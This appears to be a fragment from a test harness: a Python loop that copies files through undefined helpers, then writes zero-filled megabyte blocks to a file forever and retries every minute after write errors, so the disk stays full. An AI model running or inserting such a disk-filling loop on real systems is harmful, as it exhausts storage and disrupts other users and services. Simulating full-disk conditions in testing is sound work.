import time

copy_all()
with open(target("big"), "wb", buffering=0) as file:
    while True:
        try:
            file.write(bytes(1 << 20))
        except OSError:
            time.sleep(60)
